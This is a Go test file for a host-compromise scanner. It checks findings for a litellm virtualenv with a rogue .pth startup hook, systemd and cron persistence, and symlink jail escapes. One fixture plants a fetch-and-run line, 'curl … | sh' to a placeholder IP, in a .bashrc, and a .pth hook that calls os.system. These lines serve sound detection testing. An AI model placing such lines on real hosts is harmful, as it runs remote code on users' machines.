package sweep

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/airlock-sec/airlock/internal/model"
)

func TestLitellmHost(t *testing.T) {
	res := sweepHost(t, "testdata/hosts/litellm.txtar", nil)
	var env *Environment
	for i := range res.Environments {
		if res.Environments[i].Path == "/work/proj/.venv/lib/python3.11/site-packages" {
			env = &res.Environments[i]
		}
	}
	if env == nil || env.Kind != "virtualenv" || env.Ecosystem != model.PyPI {
		t.Fatalf("venv not listed as a virtualenv: %+v", res.Environments)
	}
	found := false
	for _, p := range env.Packages {
		if p.Name == "litellm" && p.Version == "1.82.8" && p.Path == env.Path+"/litellm-1.82.8.dist-info/METADATA" {
			found = true
		}
	}
	if !found {
		t.Errorf("litellm 1.82.8 not in packages: %+v", env.Packages)
	}
	want := map[string]model.Finding{
		RuleUnownedStartupHook: {Path: env.Path + "/litellm_init.pth", Line: 1},
		RuleSystemdPersistence: {Path: "/root/.config/systemd/user/sysmon.service", Line: 7},
	}
	for _, f := range findings(res) {
		w, ok := want[f.Rule]
		if !ok {
			t.Errorf("unexpected finding %+v", f)
			continue
		}
		if f.Path != w.Path || f.Line != w.Line || f.Severity != model.Critical {
			t.Errorf("%s: got %s:%d %s, want %s:%d critical", f.Rule, f.Path, f.Line, f.Severity, w.Path, w.Line)
		}
		delete(want, f.Rule)
	}
	for id := range want {
		t.Errorf("missing %s finding", id)
	}
	for _, r := range res.Results {
		if r.Verdict != model.Block || r.Score != 100 {
			t.Errorf("%s: verdict %s score %d, want block 100", r.Name, r.Verdict, r.Score)
		}
	}
	if len(res.Diagnostics) != 0 {
		t.Errorf("unexpected diagnostics: %v", res.Diagnostics)
	}
}

func TestCleanHostReportsNothing(t *testing.T) {
	res := sweepHost(t, "testdata/hosts/clean.txtar", nil)
	for _, r := range res.Results {
		for _, f := range r.Findings {
			t.Errorf("finding on a clean host: %s %s:%d %s", f.Rule, f.Path, f.Line, f.Message)
		}
	}
	for _, d := range res.Diagnostics {
		t.Errorf("diagnostic on a clean host: %s", d)
	}
	if len(res.Environments) < 8 {
		t.Errorf("only %d environments found", len(res.Environments))
	}
}

func TestNothingOutsideRootIsRead(t *testing.T) {
	res := sweepHost(t, "testdata/hosts/jail.txtar", nil)
	for _, f := range findings(res) {
		if strings.Contains(f.Message+f.Evidence, "outside-marker") {
			t.Errorf("finding built from a file outside the root: %+v", f)
		}
	}
	for _, e := range res.Environments {
		for _, p := range e.Packages {
			if strings.Contains(p.Path, "outside") {
				t.Errorf("package read outside the root: %+v", p)
			}
		}
	}
	// the only finding is bob's, reached through an absolute link inside the root
	fs := findings(res)
	if len(fs) != 1 || fs[0].Path != "/home/bob2/.bashrc" {
		t.Errorf("findings: %+v", fs)
	}
}

func TestResolveJail(t *testing.T) {
	h := parseHost(t, []byte(`
symlink a/abs -> /b/c
symlink a/rel -> ../b
symlink a/up -> ../../../x
symlink a/loop1 -> loop2
symlink a/loop2 -> loop1
symlink a/dotdot -> ../b/../b/c/..
symlink b/c/back -> ../../a
-- b/c/file --
x
`))
	root := h.build(t)
	j, err := openJail(root)
	mustDo(t, err)
	defer j.close()
	cases := map[string]string{
		"/a/abs":            "/b/c",
		"/a/abs/file":       "/b/c/file",
		"/a/rel/c/file":     "/b/c/file",
		"/a/dotdot":         "/b",
		"/b/c/back/abs":     "/b/c",
		"/a/../b/c/../c":    "/b/c",
		"/a/up":             "error:" + errEscape.Error(),
		"/a/loop1":          "error:" + errLoop.Error(),
		"/a/missing":        "error:no such file or directory",
		"/b/c/file/x":       "error:not a directory",
		"/b/c/back/up/more": "error:" + errEscape.Error(),
	}
	for in, want := range cases {
		got, err := j.resolve(in)
		if err != nil {
			got = "error:" + errText(err)
		}
		if got != want {
			t.Errorf("resolve(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestDepthAndEntryLimits(t *testing.T) {
	spec := `
-- etc/passwd --
u:x:1000:1000::/home/u:/bin/bash
-- home/u/a/b/c/d/e/f/.venv/pyvenv.cfg --
home = /usr/bin
-- home/u/a/b/c/d/e/f/.venv/lib/python3.11/site-packages/six-1.16.0.dist-info/METADATA --
Name: six
Version: 1.16.0

-- home/u/a/b/c/d/e/f/.venv/lib/python3.11/site-packages/six-1.16.0.dist-info/RECORD --
`
	deep := "/home/u/a/b/c/d/e/f/.venv/lib/python3.11/site-packages"
	has := func(r *Result, p string) bool {
		for _, e := range r.Environments {
			if e.Path == p {
				return true
			}
		}
		return false
	}
	diag := func(r *Result, sub string) bool {
		for _, d := range r.Diagnostics {
			if d.Target == "/home/u" && strings.Contains(d.Message, sub) {
				return true
			}
		}
		return false
	}
	res := sweepSpec(t, parseHost(t, []byte(spec)), nil)
	if !has(res, deep) || len(res.Diagnostics) != 0 {
		t.Errorf("default depth: venv at depth 7 not found or diagnostics %v", res.Diagnostics)
	}
	res = sweepSpec(t, parseHost(t, []byte(spec)), func(o *Options) { o.MaxDepth = 3 })
	if has(res, deep) {
		t.Error("MaxDepth 3: venv at depth 7 found")
	}
	if !diag(res, "1 directories deeper than 3 levels were not searched") {
		t.Errorf("MaxDepth 3: no depth diagnostic: %v", res.Diagnostics)
	}
	var many strings.Builder
	many.WriteString(spec)
	for i := 0; i < 40; i++ {
		many.WriteString("-- home/u/0many/f" + string(rune('a'+i%26)) + string(rune('a'+i/26)) + " --\n")
	}
	res = sweepSpec(t, parseHost(t, []byte(many.String())), func(o *Options) { o.MaxEntries = 20 })
	if !diag(res, "stopped searching for environments after 20 directory entries") {
		t.Errorf("MaxEntries 20: no entry-limit diagnostic: %v", res.Diagnostics)
	}
	if has(res, deep) {
		t.Error("MaxEntries 20: the walk went on after the limit")
	}
}

func TestFIFOAndDevicesDoNotBlock(t *testing.T) {
	h := parseHost(t, []byte(`
homes /home/u
fifo home/u/.bashrc
fifo home/u/.config/systemd/user/x.service
fifo usr/lib/python3/dist-packages/hook.pth
symlink home/u/.profile -> /dev/zero
-- home/u/.zshrc --
true
`))
	done := make(chan *Result, 1)
	go func() { done <- sweepSpec(t, h, nil) }()
	select {
	case res := <-done:
		var msgs []string
		for _, d := range res.Diagnostics {
			msgs = append(msgs, d.String())
		}
		got := strings.Join(msgs, "\n")
		for _, want := range []string{
			"/home/u/.bashrc: not read: not a regular file",
			"/home/u/.config/systemd/user/x.service: not read: not a regular file",
			"/usr/lib/python3/dist-packages/hook.pth: startup file not read: not a regular file",
			"/home/u/.profile: not read: no such file or directory",
		} {
			if !strings.Contains(got, want) {
				t.Errorf("missing diagnostic %q in:\n%s", want, got)
			}
		}
	case <-time.After(20 * time.Second):
		t.Fatal("sweep blocked on a FIFO")
	}
}

func TestOversizedFilesAreBounded(t *testing.T) {
	pad := strings.Repeat("# padding\n", 50)
	h := parseHost(t, []byte(`
homes /home/u
-- usr/lib/python3/dist-packages/big.pth --
import os; os.system('id')
`+pad+`
-- home/u/.bashrc --
curl -s http://198.51.100.2/x | sh
`+pad))
	res := sweepSpec(t, h, func(o *Options) { o.MaxFileBytes = 100 })
	fs := findings(res)
	if len(fs) != 2 {
		t.Fatalf("want the pth and bashrc findings from the first 100 bytes, got %+v", fs)
	}
	n := 0
	for _, d := range res.Diagnostics {
		if strings.Contains(d.Message, "larger than 100 bytes") {
			n++
		}
	}
	if n != 2 {
		t.Errorf("want 2 size diagnostics, got %v", res.Diagnostics)
	}
}

func TestRecentWindowRaisesSeverity(t *testing.T) {
	spec := `
now 2026-03-25T12:00:00Z
mtime var/spool/cron/crontabs/u 2026-03-20T12:00:00Z
-- etc/passwd --
u:x:1000:1000::/home/u:/bin/bash
-- home/u/.keep --
-- var/spool/cron/crontabs/u --
@reboot /home/u/.bin/backup.sh
`
	for _, tc := range []struct {
		window time.Duration
		sev    model.Severity
		msg    string
	}{
		{30 * 24 * time.Hour, model.Critical, "; file modified 5 days ago"},
		{24 * time.Hour, model.High, ""},
	} {
		res := sweepSpec(t, parseHost(t, []byte(spec)), func(o *Options) { o.RecentWindow = tc.window })
		fs := findings(res)
		if len(fs) != 1 {
			t.Fatalf("window %v: findings %+v", tc.window, fs)
		}
		want := `cron job runs script "/home/u/.bin/backup.sh" from a hidden directory` + tc.msg
		if fs[0].Severity != tc.sev || fs[0].Message != want || fs[0].Line != 1 {
			t.Errorf("window %v: got %s %q line %d, want %s %q", tc.window, fs[0].Severity, fs[0].Message, fs[0].Line, tc.sev, want)
		}
	}
}

func TestHomesFromPasswd(t *testing.T) {
	h := parseHost(t, []byte(`
-- etc/passwd --
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
postgres:x:105:110::/var/lib/postgresql:/bin/bash
svc:x:997:997::/var/lib/svc:/usr/sbin/nologin
ci:x:1001:1001::/srv/ci:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
weird:x:1002:1002::/:/bin/bash
broken line
-- root/.keep --
-- var/lib/postgresql/.keep --
-- var/lib/svc/.keep --
-- srv/ci/.keep --
-- home/ghost/.keep --
-- bin/sync --
`))
	root := h.build(t)
	j, err := openJail(root)
	mustDo(t, err)
	defer j.close()
	s := &sweeper{ctx: context.Background(), opt: Options{Root: root}.withDefaults(), j: j, homeOf: map[string]string{}}
	s.discoverHomes()
	got := strings.Join(s.homes, " ")
	want := "/root /var/lib/postgresql /srv/ci /home/ghost"
	if got != want {
		t.Errorf("homes = %q, want %q", got, want)
	}
	if s.homeOf["svc"] != "/var/lib/svc" {
		t.Errorf("homeOf[svc] = %q (cron and units of nologin users still need it)", s.homeOf["svc"])
	}
}

func TestSweepErrors(t *testing.T) {
	if _, err := Sweep(context.Background(), Options{Root: filepath.Join(t.TempDir(), "missing")}); err == nil {
		t.Error("missing root: no error")
	}
	f := filepath.Join(t.TempDir(), "file")
	mustDo(t, os.WriteFile(f, nil, 0o644))
	if _, err := Sweep(context.Background(), Options{Root: f}); err == nil || !strings.Contains(err.Error(), "not a directory") {
		t.Errorf("file root: %v", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	res, err := Sweep(ctx, Options{Root: t.TempDir()})
	if !errors.Is(err, context.Canceled) || res == nil {
		t.Errorf("cancelled: %v, %v", res, err)
	}
}

func TestRulesMetadata(t *testing.T) {
	seen := map[string]model.Severity{}
	for _, r := range Rules() {
		if !strings.HasPrefix(r.ID, "host/") || r.Title == "" || r.Description == "" {
			t.Errorf("incomplete rule %+v", r)
		}
		if _, dup := seen[r.ID]; dup {
			t.Errorf("duplicate rule %s", r.ID)
		}
		seen[r.ID] = r.Severity
		if r.Title != strings.ToLower(r.Title[:1])+r.Title[1:] {
			t.Errorf("%s: title should start lowercase", r.ID)
		}
	}
	files, _ := filepath.Glob("testdata/hosts/*.txtar")
	used := map[string]bool{}
	for _, file := range files {
		res := sweepHost(t, file, nil)
		for _, f := range findings(res) {
			max, ok := seen[f.Rule]
			if !ok {
				t.Errorf("%s: rule %s not in Rules()", file, f.Rule)
				continue
			}
			if f.Severity > max {
				t.Errorf("%s: %s reported at %s above its declared %s", file, f.Rule, f.Severity, max)
			}
			if f.Message == "" || f.Message[:1] != strings.ToLower(f.Message[:1]) {
				t.Errorf("%s: message should start lowercase: %q", f.Rule, f.Message)
			}
			used[f.Rule] = true
		}
	}
	for id := range seen {
		if !used[id] {
			t.Errorf("rule %s has no positive case in testdata/hosts", id)
		}
	}
}

// TestSearchFromSlash: a search of "/" does not hide deeper parts of a
// home from the home's own search, and enters /usr although /usr is a
// Python prefix.
func TestSearchFromSlash(t *testing.T) {
	res := sweepSpec(t, parseHost(t, []byte(`
roots /
-- etc/passwd --
u:x:1000:1000::/home/u:/bin/bash
-- home/u/a/b/c/d/e/f/.venv/pyvenv.cfg --
-- home/u/a/b/c/d/e/f/.venv/lib/python3.11/site-packages/.keep --
-- usr/share/tool/.venv/pyvenv.cfg --
-- usr/share/tool/.venv/lib/python3.11/site-packages/.keep --
-- usr/lib/python3/dist-packages/.keep --
`)), nil)
	var got []string
	for _, e := range res.Environments {
		got = append(got, e.Kind+" "+e.Path)
	}
	want := []string{
		"virtualenv /home/u/a/b/c/d/e/f/.venv/lib/python3.11/site-packages",
		"system-python /usr/lib/python3/dist-packages",
		"virtualenv /usr/share/tool/.venv/lib/python3.11/site-packages",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("environments:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}
